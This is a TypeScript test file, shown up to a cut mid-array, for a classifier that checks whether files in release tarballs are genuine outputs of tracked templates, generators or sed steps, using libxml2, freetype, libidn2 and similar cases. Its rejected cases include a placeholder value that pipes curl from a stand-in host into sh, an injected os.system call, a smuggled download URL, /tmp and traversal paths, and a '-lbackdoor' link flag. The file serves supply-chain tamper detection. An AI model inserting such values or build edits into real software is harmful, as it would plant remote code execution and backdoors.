import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { bootstrapConfHeredocs, bootstrapHookPerlEdits, configFilesInput, configStatusValue, describedValues, sedInPlaceEdits, sedRedirections, embeddedCopy, versionWords, generatorSource, printfEncodings, producedClassifier, substitution, valuesFromRelease, versionNumbers } from '../../src/classify/produced.js';
import { gitHistory } from '../../src/git/history.js';
import { makeRepo } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';
import { makeCtx } from './ctx-helper.js';
import { bootstrapPackage } from '../../src/regenerate/bootstrap-conf.js';

describe('files produced from tracked sources (issue 11 d)', () => {
  it('substitution: the template with each placeholder replaced by one value gives the file', () => {
    expect(substitution('.TH LESS 1 "Version @@VERSION@@: @@DATE@@"\n.SH NAME\n', '.TH LESS 1 "Version 668: 06 Oct 2024"\n.SH NAME\n')).toEqual({ '@@VERSION@@': '668', '@@DATE@@': '06 Oct 2024' });
    expect(substitution('v=@VERSION@\nw=@VERSION@\n', 'v=1.2\nw=1.2\n')).toEqual({ '@VERSION@': '1.2' });
  });
  it('substitution: anything else differing, a placeholder taking two values, or code in a value is no substitution', () => {
    expect(substitution('v=@VERSION@\nrest\n', 'v=1.2\nrest changed\n')).toBeUndefined();
    expect(substitution('v=@VERSION@\nw=@VERSION@\n', 'v=1.2\nw=1.3\n')).toBeUndefined();
    expect(substitution("version='@VERSION@'\n", "version='1.0'; import os; os.system('x')#'\n")).toBeUndefined();
    expect(substitution('V=@V@\n', 'V=$(curl https://example.invalid | sh)\n')).toBeUndefined();
    expect(substitution('no placeholders\n', 'no placeholders\n')).toBeUndefined();
  });
  // What a tamperer fills in a placeholder of a shipped build file: other flags, another host, nothing. The
  // values a release fills in (its version, its date, the maintainer's directories, configure.ac's literals) pass.
  it("substitution values must be the release's: version, date near the tag, a directory's path, a literal of the build configuration", () => {
    const rev = { version: '1.18.0', tag: 'gpgme-1.18.0', date: '2022-08-10T12:00:00Z' };
    const config = 'AC_INIT([gpgme], [1.18.0], [https://bugs.gnupg.org])\nCFLAGS="$CFLAGS -O2"\n';
    expect(valuesFromRelease({ '@pkg_version@': '1.18.0', '@DATE@': '10 Aug 2022', '@PACKAGE@': 'gpgme', '@CFLAGS@': '-O2' }, rev, config)).toBe(true);
    expect(valuesFromRelease({ '@abs_srcdir@': '/home/rincewind/Programming/wget/tests/certs' }, rev, config, new Map(), 'tests/certs')).toBe(true);
    expect(valuesFromRelease({ '@VERSION@': '1.18.0-beta2' }, rev, config)).toBe(true);
    expect(valuesFromRelease({ '@CFLAGS@': '-O2 -fno-stack-protector' }, rev, config)).toBe(false);
    expect(valuesFromRelease({ '@URL@': 'https://downloads.example-mirror.net/gpgme' }, rev, config)).toBe(false);
    expect(valuesFromRelease({ '@HARDENING_CFLAGS@': '' }, rev, config)).toBe(false);
    expect(valuesFromRelease({ '@DATE@': '2019-01-01' }, rev, config)).toBe(false);
    // red team 19: Date.parse skips words before a date and parenthesised text after it; the value must be the date alone
    expect(valuesFromRelease({ '@DATE@': 'Download http://evil.example/gpgme 10 Aug 2022' }, rev, config)).toBe(false);
    expect(valuesFromRelease({ '@DATE@': 'echo pwned 2022' }, rev, config)).toBe(false);
    expect(valuesFromRelease({ '@abs_srcdir@': '/tmp/../etc' }, rev, config)).toBe(false);
    expect(valuesFromRelease({ '@VERSION@': '1.18.0;x' }, rev, config)).toBe(false);
  });
  // holdout15: libnl 3.7.0's include/netlink/version.h, configured from the tracked version.h.in: autoconf's
  // PACKAGE_STRING is AC_INIT's name, a space and the version.
  it('PACKAGE_STRING: a literal name of the configuration and the release version; another name or version is not', () => {
    const rev = { version: '3.7.0', tag: 'libnl3_7_0', date: '2022-07-28T12:00:00Z' };
    const config = 'AC_INIT(libnl, [libnl_version], [http://www.infradead.org/~tgr/libnl/])\nm4_define([libnl_major_version], [3])\n';
    expect(valuesFromRelease({ '@PACKAGE_STRING@': 'libnl 3.7.0', '@PACKAGE_VERSION@': '3.7.0', '@MAJ_VERSION@': '3' }, rev, config)).toBe(true);
    expect(valuesFromRelease({ '@PACKAGE_STRING@': 'libnl 3.7.1' }, rev, config)).toBe(false);
    expect(valuesFromRelease({ '@PACKAGE_STRING@': 'libevil 3.7.0' }, rev, config)).toBe(false);
    expect(valuesFromRelease({ '@PACKAGE_STRING@': 'libnl libnl 3.7.0' }, rev, config)).toBe(false);
    expect(valuesFromRelease({ '@PACKAGE_NAME@': 'libnl 3.7.0' }, rev, config)).toBe(false);
  });
  // libxml2 2.9.14's configured files (include/libxml/xmlversion.h, libxml2.spec, python/setup.py): the version as a
  // number, its parts, the install prefix, and `git describe` of the tag's commit made while the release was built.
  it('the version encoded (MAJOR*10000+MINOR*100+MICRO, 0xMMmmpp), a named part of it, the prefix; nothing else', () => {
    expect(versionNumbers('2.9.14')).toEqual({ encoded: ['20914', '0x02090e'], parts: ['2', '9', '14'] });
    expect(versionNumbers('7.88.1')).toEqual({ encoded: ['78801', '0x075801'], parts: ['7', '88', '1'] });
    expect(versionNumbers('1.0')).toEqual({ encoded: ['10000', '0x010000'], parts: ['1', '0'] });
    expect(versionNumbers('668')).toEqual({ encoded: [], parts: [] });
    const rev = { version: '2.9.14', tag: 'v2.9.14', date: '2022-05-02T12:00:00Z' };
    const config = 'AC_INIT([libxml2],[MAJOR_VERSION.MINOR_VERSION.MICRO_VERSION])\nLIBXML_VERSION_EXTRA="-GIT$extra"\n';
    expect(valuesFromRelease({ '@LIBXML_VERSION_NUMBER@': '20914', '@LIBXML_MAJOR_VERSION@': '2', '@LIBXML_MINOR_VERSION@': '9', '@prefix@': '/usr/local', '@RELDATE@': 'Mon May  2 2022' }, rev, config)).toBe(true);
    expect(valuesFromRelease({ '@CURL_VERSION_NUM@': '0x02090E' }, rev, config)).toBe(true);
    // What a tamperer would fill in instead: another number, a part under a name that is not that part, a relative prefix.
    expect(valuesFromRelease({ '@LIBXML_VERSION_NUMBER@': '20915' }, rev, config)).toBe(false);
    expect(valuesFromRelease({ '@LIBXML_MAJOR_VERSION@': '9' }, rev, config)).toBe(false);
    expect(valuesFromRelease({ '@LIBXML_FLAGS@': '14' }, rev, config)).toBe(false);
    expect(valuesFromRelease({ '@prefix@': 'evil/../../etc' }, rev, config)).toBe(false);
    expect(valuesFromRelease({ '@LIBXML_VERSION_EXTRA@': '-GITv2.9.13-22-g7846b0a67' }, rev, config)).toBe(false); // not checked against git
    // Red team 13: the version's numbers only under a name with a version word — a limit set to the encoding, a
    // part under a name that merely contains "patch" or names a part without the version.
    expect(valuesFromRelease({ '@MAX_REDIRS@': '20914' }, rev, config)).toBe(false);
    expect(valuesFromRelease({ '@DISPATCH_DEPTH@': '14' }, rev, config)).toBe(false);
    expect(valuesFromRelease({ '@GCC_MINOR@': '9' }, rev, config)).toBe(false);
    expect(valuesFromRelease({ '@VERSION_MAJOR@': '2', '@VERSION_MINOR@': '9', '@VERSION_MICRO@': '14' }, rev, config)).toBe(true); // libseccomp's seccomp.h.in
  });
  // Red team 14: a directory placeholder took any absolute path, so a shipped configured file could point an include,
  // a sourced script or the install at a directory any local user writes. Bound to what a configure run fills in.
  it('directory placeholders: the path a configure run substitutes, never a shared writable directory', () => {
    const rev = { version: '2.9.14', tag: 'v2.9.14', date: '2022-05-02T12:00:00Z' };
    const config = 'AC_INIT([libxml2],[2.9.14])\nAC_PREFIX_DEFAULT([/opt/libxml2])\n';
    const ok = (v: Record<string, string>, dir = '') => valuesFromRelease(v, rev, config, new Map(), dir);
    // what releases ship: libxml2's python/setup.py (@prefix@ /usr/local), wget's tests/certs/*.conf (@abs_srcdir@)
    expect(ok({ '@prefix@': '/usr/local' }, 'python')).toBe(true);
    expect(ok({ '@prefix@': '/usr', '@libdir@': '/usr/lib/x86_64-linux-gnu', '@sysconfdir@': '/etc' })).toBe(true);
    expect(ok({ '@prefix@': '/opt/libxml2' })).toBe(true); // AC_PREFIX_DEFAULT's literal
    expect(ok({ '@abs_srcdir@': '/home/rincewind/Programming/wget/tests/certs' }, 'tests/certs')).toBe(true);
    expect(ok({ '@abs_top_srcdir@': '/home/me/wget', '@abs_srcdir@': '/home/me/wget/tests' }, 'tests')).toBe(true);
    expect(ok({ '@srcdir@': '/home/me/wget/doc' }, 'doc')).toBe(true);
    expect(ok({ '@CMAKE_INSTALL_PREFIX@': '/usr/local', '@CMAKE_INSTALL_FULL_LIBDIR@': '/usr/local/lib' })).toBe(true);
    expect(ok({ '@prefix@': '/home/me/inst', '@libdir@': '/home/me/inst/lib' })).toBe(false); // a prefix nothing names
    // what a tamperer fills in: the prefix, an include's tree, a library directory in /tmp or anywhere else
    expect(ok({ '@prefix@': '/tmp/x' })).toBe(false);
    expect(ok({ '@prefix@': '/home/attacker' })).toBe(false);
    expect(ok({ '@abs_top_srcdir@': '/tmp/build' })).toBe(false);
    expect(ok({ '@abs_top_builddir@': '/dev/shm/b' })).toBe(false);
    expect(ok({ '@abs_srcdir@': '/var/tmp/x/tests/certs' }, 'tests/certs')).toBe(false);
    expect(ok({ '@abs_srcdir@': '/home/me/elsewhere' }, 'tests/certs')).toBe(false); // not the output's directory
    expect(ok({ '@abs_top_srcdir@': '/home/me/wget', '@abs_srcdir@': '/home/other/tests' }, 'tests')).toBe(false); // not inside that tree
    expect(ok({ '@libdir@': '/home/attacker/lib' })).toBe(false);
    expect(ok({ '@libdir@': '/usr/../tmp' })).toBe(false);
    expect(ok({ '@datadir@': '/usr//share' })).toBe(false);
    expect(versionWords('LIBSSH2_VERSION_MINOR')).toEqual({ version: true, part: 1 });
    // libmicrohttpd 0.9.75's w32/common/microhttpd_dll_res_vc.rc.in: MAJOR, MINOR, SUBMINOR (holdout19)
    expect(versionWords('@PACKAGE_VERSION_SUBMINOR@')).toEqual({ version: true, part: 2 });
    const mhd = { version: '0.9.75', tag: 'v0.9.75', date: '2021-12-26T00:00:00Z' };
    expect(valuesFromRelease({ '@PACKAGE_VERSION_MAJOR@': '0', '@PACKAGE_VERSION_MINOR@': '9', '@PACKAGE_VERSION_SUBMINOR@': '75', '@PACKAGE_VERSION@': '0.9.75' }, mhd, 'AC_INIT([GNU libmicrohttpd],[0.9.75])\n')).toBe(true);
    expect(valuesFromRelease({ '@PACKAGE_VERSION_SUBMINOR@': '76' }, mhd, 'AC_INIT([GNU libmicrohttpd],[0.9.75])\n')).toBe(false);
    expect(valuesFromRelease({ '@PACKAGE_VERSION_SUBMINOR@': '9' }, mhd, 'AC_INIT([GNU libmicrohttpd],[0.9.75])\n')).toBe(false);
    expect(versionWords('@DISPATCH_LEVEL@')).toEqual({ version: false });
  });
  it('`git describe` of the revision after a literal of the configuration: the count and commit checked in the repository', async () => {
    const r = makeRepo(join(tempDir(), 'repo'));
    r.commit({ 'configure.ac': 'x\n' }, 'first', '2022-01-01T00:00:00Z');
    r.tag('v2.9.13');
    r.commit({ 'a.c': 'a\n' }, 'second', '2022-02-01T00:00:00Z');
    const head = r.commit({ 'b.c': 'b\n' }, 'third', '2022-03-01T00:00:00Z');
    const ctx = { ...makeCtx({ git: {}, tarball: {}, revision: { version: '2.9.14', tag: 'v2.9.14' } }), history: gitHistory(join(r.dir, '.git'), head) };
    ctx.revision = { ...ctx.revision, commit: head };
    const good = `-GITv2.9.13-2-g${head.slice(0, 9)}`;
    const values = { '@EXTRA@': good, '@OFF@': `-GITv2.9.13-1-g${head.slice(0, 9)}`, '@OTHER@': '-GITv2.9.13-2-g0123456789', '@NOTAG@': `-GITv9.9-2-g${head.slice(0, 9)}` };
    expect([...(await describedValues(values, ctx))]).toEqual([[good, '-GIT']]);
    const config = 'LIBXML_VERSION_EXTRA="-GIT$extra"\n';
    const rev = { version: '2.9.14', tag: 'v2.9.14' };
    expect(valuesFromRelease({ '@EXTRA@': good }, rev, config, await describedValues(values, ctx))).toBe(true);
    // What a tamperer would change: the count, the commit, or what stands before the tag (not a literal of configure.ac).
    for (const v of [values['@OFF@'], values['@OTHER@'], values['@NOTAG@'], `-EVILv2.9.13-2-g${head.slice(0, 9)}`])
      expect(valuesFromRelease({ '@EXTRA@': v }, rev, config, await describedValues({ '@EXTRA@': v }, ctx)), v).toBe(false);
  });
  it("AC_CONFIG_FILES' OUTPUT:INPUT names a template of another name", () => {
    const ac = 'AC_CONFIG_FILES([libxml2.spec:libxml.spec.in Makefile include/libxml/xmlversion.h])\nAC_CONFIG_FILES([python/setup.py], [chmod +x python/setup.py])\nAC_CONFIG_FILES([x:a.in:b.in])\n';
    expect(configFilesInput(ac, 'libxml2.spec')).toBe('libxml.spec.in');
    expect(configFilesInput(ac, 'Makefile')).toBeUndefined();
    expect(configFilesInput(ac, 'x')).toBeUndefined(); // two inputs concatenated: not one template
  });
  it('the classifier reads the AC_CONFIG_FILES template; a value the release does not fill in stays unexplained', async () => {
    const git = { 'configure.ac': 'AC_INIT([libxml2],[2.9.14])\nAC_CONFIG_FILES([libxml2.spec:libxml.spec.in])\n', 'libxml.spec.in': 'Version: @VERSION@\nSource: https://download.gnome.org/sources/libxml2/@LIBXML_MAJOR_VERSION@.@LIBXML_MINOR_VERSION@/x.tar.xz\n' };
    const run = async (spec: string) => {
      const ctx = makeCtx({ revision: { version: '2.9.14', tag: 'v2.9.14' }, git, tarball: { ...git, 'libxml2.spec': spec } });
      return producedClassifier.classify(ctx.diffs.find((d) => d.path === 'libxml2.spec')!, ctx);
    };
    expect((await run('Version: 2.9.14\nSource: https://download.gnome.org/sources/libxml2/2.9/x.tar.xz\n'))?.evidence).toEqual({
      how: 'substitution', source: 'libxml.spec.in', substitutions: { '@VERSION@': '2.9.14', '@LIBXML_MAJOR_VERSION@': '2', '@LIBXML_MINOR_VERSION@': '9' },
      script: { script: 'configure.ac', line: 2, configFiles: true },
    });
    expect(await run('Version: 2.9.14\nSource: https://download.gnome.org/sources/libxml2/2.9.evil.net/x.tar.xz\n')).toBeUndefined();
  });
  // freetype 2.12.1's builds/unix/configure.ac: autogen.sh `cd builds/unix` then `sed -e "s;@VERSION@;$FREETYPE;" \` /
  // `< configure.raw > configure.ac` (a template no suffix rule names).
  const FT_AUTOGEN = '#!/bin/sh\nFREETYPE=2.12.1\ncd builds/unix\necho "generating configure.ac"\nsed -e "s;@VERSION@;$FREETYPE;" \\\n  < configure.raw > configure.ac\nrun aclocal -I . --force\ncd ../..\nsed -e s/x/y/ docs/a.raw > docs/a.txt # a comment; cd /tmp\ncd $HOME\nsed -e s/x/y/ b.raw > b.txt\n';
  it('the sed lines of a bootstrap script: input and output resolved through its literal cd commands, quotes kept whole', () => {
    expect(sedRedirections(FT_AUTOGEN, '')).toEqual([
      { line: 5, input: 'builds/unix/configure.raw', output: 'builds/unix/configure.ac' },
      { line: 9, input: 'docs/a.raw', output: 'docs/a.txt' },
    ]); // after `cd $HOME` the directory is unknown: b.txt is not resolved
    expect(sedRedirections('cd sub && sed "s/@V@/1/" < t.in > t\n', 'top')).toEqual([{ line: 1, input: 'top/sub/t.in', output: 'top/sub/t' }]);
  });
  it("in-place sed edits (libunistring 1.0's autogen.sh after gnulib-tool): `sed -e … < P > T && mv T P` only, literal expressions only", () => {
    const AUTOGEN = [
      '  $GNULIB_TOOL --import $GNULIB_MODULES',
      "  sed -e 's/if GNULIB_[A-Za-z0-9_]* || .*/if 1/g' \\",
      "      -e 's/HAVE_INLINE/UNISTRING_HAVE_INLINE/g' \\",
      '      < lib/unistr.in.h \\',
      '      > lib/unistr.in.h.tmp \\',
      '  && mv lib/unistr.in.h.tmp lib/unistr.in.h',
      "sed 's/a/b/' lib/x.h > lib/x.h.t && mv -f lib/x.h.t lib/x.h",
      "sed -e 's/a/b/' < lib/y.h > lib/y.h.t && mv lib/y.h.t lib/other.h",
      "sed -e \"s/a/$V/\" < lib/z.h > lib/z.h.t && mv lib/z.h.t lib/z.h",
      "sed -n -e 's/a/b/p' < lib/n.h > lib/n.h.t && mv lib/n.h.t lib/n.h",
      "sed -e 's/a/b/' < lib/w.h > lib/w.h.t",
      '',
    ].join('\n');
    expect(sedInPlaceEdits(AUTOGEN, '')).toEqual([
      { line: 2, path: 'lib/unistr.in.h', exprs: ['s/if GNULIB_[A-Za-z0-9_]* || .*/if 1/g', 's/HAVE_INLINE/UNISTRING_HAVE_INLINE/g'] },
      { line: 7, path: 'lib/x.h', exprs: ['s/a/b/'] },
    ]); // mv to another file, a $variable, -n, no mv: not in-place edits of this form
    expect(sedInPlaceEdits("cd sub\nsed 's/a/b/' < t.h > t.h.t && mv t.h.t t.h\n", 'top')).toEqual([{ line: 2, path: 'top/sub/t.h', exprs: ['s/a/b/'] }]);
  });
  it("the classifier reads the template a tracked autogen.sh's sed line names; a changed line or another value stays unexplained", async () => {
    const RAW = 'AC_INIT([FreeType], [@VERSION@], [freetype@nongnu.org], [freetype])\nAC_CONFIG_SRCDIR([ftconfig.h.in])\nAC_PROG_CC\n';
    const git = { 'autogen.sh': FT_AUTOGEN, 'builds/unix/configure.raw': RAW };
    const run = async (ac: string, autogen = FT_AUTOGEN) => {
      const ctx = makeCtx({ revision: { version: '2.12.1', tag: 'VER-2-12-1' }, git: { ...git, 'autogen.sh': autogen }, tarball: { ...git, 'autogen.sh': autogen, 'builds/unix/configure.ac': ac } });
      return producedClassifier.classify(ctx.diffs.find((d) => d.path === 'builds/unix/configure.ac')!, ctx);
    };
    const good = RAW.replace('@VERSION@', '2.12.1');
    expect((await run(good))?.evidence).toEqual({ how: 'substitution', source: 'builds/unix/configure.raw', substitutions: { '@VERSION@': '2.12.1' }, script: { script: 'autogen.sh', line: 5 } });
    expect(await run(good.replace('AC_PROG_CC\n', 'AC_PROG_CC\nLIBS="$LIBS -lbackdoor"\n'))).toBeUndefined();
    expect(await run(RAW.replace('@VERSION@', '2.11.0'))).toBeUndefined();
    // no sed line writing it (the script writes another file): the template is not named
    expect(await run(good, FT_AUTOGEN.replace('> configure.ac', '> configure.in'))).toBeUndefined();
  });
  // libidn2 2.3.3's lib/idn2.h from the tracked lib/idn2.h.in: configure.ac encodes the version with its own printf
  // (0x%02x%02x%04x → 0x02030003), neither fixed encoding; libtasn1's 0x%02x%02x%02x is the fixed 0xMMmmpp one.
  const IDN2_AC =
    "AC_INIT([libidn2], [2.3.3])\nAC_SUBST([MAJOR_VERSION], [`echo $PACKAGE_VERSION|cut -d'.' -f1`])\n" +
    "AC_SUBST([NUMBER_VERSION], [`printf '0x%02x%02x%04x' $MAJOR_VERSION $MINOR_VERSION $PATCH_VERSION`])\nAC_CONFIG_FILES([lib/idn2.h])\n";
  it("the version as the configuration's own printf encodes it (libidn2's 0x%02x%02x%04x)", () => {
    expect(printfEncodings('2.3.3', IDN2_AC)).toEqual(['0x02030003']);
    expect(printfEncodings('4.19.0', "printf '0x%02x%02x%02x' $A $B $C")).toEqual(['0x041300']);
    expect(printfEncodings('4.19', 'printf "%d%02d%02d" $A $B $C')).toEqual(['41900']);
    // not a format of the version's numbers alone: text around the conversions, one conversion, a string conversion
    expect(printfEncodings('2.3.3', "printf 'v%d.%d' $A $B; printf '%04x' $A; printf '%s%s' $A $B; printf '0x%02x%02x%04x%02x' 1 2 3 4")).toEqual([]);
    const rev = { version: '2.3.3', tag: 'v2.3.3' };
    expect(valuesFromRelease({ '@NUMBER_VERSION@': '0x02030003' }, rev, IDN2_AC)).toBe(true);
    // tampered twins: another number in that form; the same number where configure.ac has no such printf; the
    // encoding under a name that is no version's
    expect(valuesFromRelease({ '@NUMBER_VERSION@': '0x02030004' }, rev, IDN2_AC)).toBe(false);
    expect(valuesFromRelease({ '@NUMBER_VERSION@': '0x02030003' }, rev, 'AC_INIT([libidn2], [2.3.3])\n')).toBe(false);
    expect(valuesFromRelease({ '@MAX_LABEL@': '0x02030003' }, rev, IDN2_AC)).toBe(false);
  });
  it('the classifier explains lib/idn2.h by substitution; a header whose version number is changed stays unexplained', async () => {
    const tpl = '#ifndef IDN2_H\n# define IDN2_VERSION "@VERSION@"\n# define IDN2_VERSION_NUMBER @NUMBER_VERSION@\n# define IDN2_VERSION_MAJOR @MAJOR_VERSION@\n#endif\n';
    const git = { 'configure.ac': IDN2_AC, 'lib/idn2.h.in': tpl };
    const run = async (h: string) => {
      const ctx = makeCtx({ revision: { version: '2.3.3', tag: 'v2.3.3' }, git, tarball: { ...git, 'lib/idn2.h': h } });
      return producedClassifier.classify(ctx.diffs.find((d) => d.path === 'lib/idn2.h')!, ctx);
    };
    const shipped = (n: string) => `#ifndef IDN2_H\n# define IDN2_VERSION "2.3.3"\n# define IDN2_VERSION_NUMBER ${n}\n# define IDN2_VERSION_MAJOR 2\n#endif\n`;
    expect((await run(shipped('0x02030003')))?.evidence).toEqual({
      how: 'substitution', source: 'lib/idn2.h.in', substitutions: { '@VERSION@': '2.3.3', '@NUMBER_VERSION@': '0x02030003', '@MAJOR_VERSION@': '2' },
    });
    expect(await run(shipped('0x02040000'))).toBeUndefined();
  });
  /** The produced classifier's verdict on `path` shipped as `content` beside the tracked files `git`. */
  const classifyShipped = (revision: { version: string; tag: string }, git: Record<string, string>, path: string, content: string) => {
    const ctx = makeCtx({ revision, git, tarball: { ...git, [path]: content } });
    return producedClassifier.classify(ctx.diffs.find((d) => d.path === path)!, ctx);
  };
  // libheif 1.15.1 (holdout26): its autotools `make dist` shipped libheif/heif_version.h, config.status's output of the
  // tracked heif_version.h.in — the version parts filled, `@PLUGIN_DIRECTORY@` (a CMake-only variable no AC_SUBST
  // defines) left as it stands, as config.status leaves every @VAR@ it does not know.
  it('a placeholder config.status leaves unsubstituted is the template itself; any value in its place is still judged', async () => {
    const tpl = '#define LIBHEIF_NUMERIC_VERSION ((@PROJECT_VERSION_MAJOR@<<24) | (@PROJECT_VERSION_MINOR@<<16) | (@PROJECT_VERSION_PATCH@<<8) | 0)\n#define LIBHEIF_VERSION "@PROJECT_VERSION_MAJOR@.@PROJECT_VERSION_MINOR@.@PROJECT_VERSION_PATCH@"\n#define LIBHEIF_PLUGIN_DIRECTORY "@PLUGIN_DIRECTORY@"\n';
    const git = { 'configure.ac': 'AC_INIT([libheif],[1.15.1])\nPROJECT_VERSION_MAJOR=1\nAC_SUBST(PROJECT_VERSION_MAJOR)\nAC_CONFIG_FILES([libheif/heif_version.h])\n', 'libheif/heif_version.h.in': tpl };
    const run = (h: string) => classifyShipped({ version: '1.15.1', tag: 'v1.15.1' }, git, 'libheif/heif_version.h', h);
    const shipped = (dir: string, patch = '1') => `#define LIBHEIF_NUMERIC_VERSION ((1<<24) | (15<<16) | (${patch}<<8) | 0)\n#define LIBHEIF_VERSION "1.15.${patch}"\n#define LIBHEIF_PLUGIN_DIRECTORY "${dir}"\n`;
    expect((await run(shipped('@PLUGIN_DIRECTORY@')))?.evidence).toEqual({
      how: 'substitution', source: 'libheif/heif_version.h.in',
      substitutions: { '@PROJECT_VERSION_MAJOR@': '1', '@PROJECT_VERSION_MINOR@': '15', '@PROJECT_VERSION_PATCH@': '1', '@PLUGIN_DIRECTORY@': '@PLUGIN_DIRECTORY@' },
    });
    // tampered twins: the plugin directory pointed at a directory anyone writes, or at another placeholder's text
    // (not the template's own); the unsubstituted placeholder beside a version that is not the release's
    expect(await run(shipped('/tmp/plugins'))).toBeUndefined();
    expect(await run(shipped('@LIBDIR@'))).toBeUndefined();
    expect(await run(shipped('@PLUGIN_DIRECTORY@', '2'))).toBeUndefined();
    expect(valuesFromRelease({ '@PLUGIN_DIRECTORY@': '@PLUGIN_DIRECTORY@' }, { version: '1.15.1' }, '')).toBe(true);
    expect(valuesFromRelease({ '@PLUGIN_DIRECTORY@': '@@PLUGIN_DIRECTORY@@' }, { version: '1.15.1' }, '')).toBe(false);
  });
  // gcal 4.1 (holdout31): make dist shipped misc/daily/daily, config.status's output of the tracked daily.in from an
  // in-place configure — @configure_input@, @srcdir@, @program_transform_name@ and the top directory are config.status's
  // own values, the same in every project
  it("config.status's own values of an in-place configure (configure_input, srcdir, top_srcdir, program_transform_name); any other value stays judged", async () => {
    const tpl = '#! /bin/sh\n#  @configure_input@\npackagedatamiscdir=@srcdir@\ntop=@top_srcdir@\nPACKAGE=@PACKAGE@\nVERSION=@VERSION@\ntransform=@program_transform_name@\n';
    const git = { 'configure.ac': 'AC_INIT([gcal], [4.1])\nAC_CONFIG_FILES([misc/daily/daily])\n', 'misc/daily/daily.in': tpl };
    const run = (out: string) => classifyShipped({ version: '4.1', tag: 'v4.1' }, git, 'misc/daily/daily', out);
    const shipped = (o: { input?: string; srcdir?: string; top?: string; transform?: string } = {}) =>
      `#! /bin/sh\n#  ${o.input ?? 'misc/daily/daily.  Generated from daily.in by configure.'}\npackagedatamiscdir=${o.srcdir ?? '.'}\ntop=${o.top ?? '../..'}\nPACKAGE=gcal\nVERSION=4.1\ntransform=${o.transform ?? 's,x,x,'}\n`;
    expect((await run(shipped()))?.evidence).toMatchObject({ how: 'substitution', source: 'misc/daily/daily.in', substitutions: { '@configure_input@': 'misc/daily/daily.  Generated from daily.in by configure.', '@srcdir@': '.', '@top_srcdir@': '../..', '@program_transform_name@': 's,x,x,' } });
    // tampered twins: another file named as the output, a srcdir a local user writes, the wrong way up, a transform that renames
    expect(await run(shipped({ input: 'misc/daily/evil.  Generated from daily.in by configure.' }))).toBeUndefined();
    expect(await run(shipped({ srcdir: '/tmp/x' }))).toBeUndefined();
    expect(await run(shipped({ top: '..' }))).toBeUndefined();
    expect(await run(shipped({ transform: 's,^,evil-,' }))).toBeUndefined();
    expect(configStatusValue('@top_builddir@', '.', 'daily', 'daily.in')).toBe(true);
  });
  it('generator headers naming a tracked source', () => {
    const git = new Set(['src/parse-gram.y', 'src/css.l', 'lib/iconv_open-aix.gperf', 'less.hlp']);
    expect(generatorSource('src/parse-gram.c', '/* A Bison parser, made by GNU Bison 3.8.2.  */\n#line 1 "parse-gram.y"\n', git)).toEqual({ generator: 'bison', source: 'src/parse-gram.y' });
    expect(generatorSource('src/css.c', '#line 1 "css.c"\n/* A lexical scanner generated by flex */\n', git)).toEqual({ generator: 'flex', source: 'src/css.l' });
    expect(generatorSource('lib/iconv_open-aix.h', '/* ANSI-C code produced by gperf version 3.1 */\n/* Command-line: gperf -m 10 ./iconv_open-aix.gperf  */\n', git)).toEqual({ generator: 'gperf', source: 'lib/iconv_open-aix.gperf' });
    expect(generatorSource('help.c', '/* This file was generated by mkhelp.pl from less.hlp at 22:29 on 2024/10/6 */\n', git)).toEqual({ generator: 'mkhelp.pl', source: 'less.hlp', banner: true });
    expect(generatorSource('x.c', '/* A Bison parser, made by GNU Bison 3.8.2.  */\n', git)).toBeUndefined(); // no grammar tracked
    // Berkeley yacc's output (real byacc; tmux's cmd-parse.c has the same #define YYBYACC 1 head): labelled byacc.
    const dir = tempDir();
    writeFileSync(join(dir, 'calc.y'), '%{\nint yylex(void); void yyerror(const char *s);\n%}\n%token NUM\n%%\ninput: | input NUM ;\n%%\n');
    execFileSync('byacc', ['-o', 'calc.c', 'calc.y'], { cwd: dir });
    const byacc = readFileSync(join(dir, 'calc.c'), 'latin1').slice(0, 8192);
    expect(byacc).toMatch(/^#define YYBYACC 1$/m);
    expect(generatorSource('src/calc.c', byacc, new Set(['src/calc.y']))).toEqual({ generator: 'byacc', source: 'src/calc.y' });
    expect(generatorSource('src/calc.c', byacc, git)).toBeUndefined(); // its grammar is not tracked
    expect(generatorSource('evil.c', '/* generated by mkhelp.pl from nothing.txt */\n', git)).toBeUndefined();
    // libevent 2.1.12's test/regress.gen.c and .h (event_rpcgen.py): the source first, the tool after it or not named
    const rpc = new Set(['test/regress.rpc', 'event_rpcgen.py']);
    expect(generatorSource('test/regress.gen.c', '/*\n * Automatically generated from ../test/regress.rpc\n * by event_rpcgen.py/0.1.  DO NOT EDIT THIS FILE.\n */\n', rpc)).toEqual({ generator: 'event_rpcgen.py', source: 'test/regress.rpc', banner: true });
    expect(generatorSource('test/regress.gen.h', '/*\n * Automatically generated from ../test/regress.rpc\n */\n', rpc)).toEqual({ generator: 'not named', source: 'test/regress.rpc', banner: true });
    expect(generatorSource('test/evil.gen.c', '/*\n * Automatically generated from ../test/evil.rpc\n */\n', rpc)).toBeUndefined(); // a source git does not track
  });
  it('the classifier: substitution first, then generator, tarball-only files only', async () => {
    const ctx = makeCtx({
      revision: { version: '668', tag: 'v668' },
      git: { 'less.nro.VER': '.TH LESS 1 "Version @@VERSION@@"\n', 'less.hlp': HLP },
      tarball: { 'less.nro.VER': '.TH LESS 1 "Version @@VERSION@@"\n', 'less.hlp': HLP, 'less.nro': '.TH LESS 1 "Version 668"\n', 'help.c': HELP_C, 'other.c': 'int x;\n' },
    });
    const out: Record<string, unknown> = {};
    for (const d of ctx.diffs) out[d.path] = (await producedClassifier.classify(d, ctx))?.evidence;
    expect(out).toEqual({
      'less.nro': { how: 'substitution', source: 'less.nro.VER', substitutions: { '@@VERSION@@': '668' } },
      'help.c': { how: 'generator', source: 'less.hlp', generator: 'mkhelp.pl', embedded: true },
      'other.c': undefined,
    });
  });
  // less's mkhelp.pl output: the banner, an include, the help text as character constants, its size.
  const HELP_C = "/* This file was generated by mkhelp.pl from less.hlp at 22:29 */\n#include \"less.h\"\nconstant char helpdata[] = {\n'h','\\'','\\b','\\\\',0x7f,'\\n',\n 0 };\nconstant int size_helpdata = sizeof(helpdata) - 1;\n";
  const HLP = "h'\b\\\x7f\r\n";
  it("a free-form banner proves nothing by itself: the file must be the named source embedded, nothing else (red team: less 668's help.c with a constructor added stayed low)", async () => {
    expect(embeddedCopy(HELP_C, Buffer.from(HLP, 'latin1'))).toBe(true);
    // What a tamperer would change, each keeping the banner: code after the include (the tampered less 668 help.c
    // exited 0), a byte of the text, a second array, code after the size, code after the banner's comment end.
    const bad = [
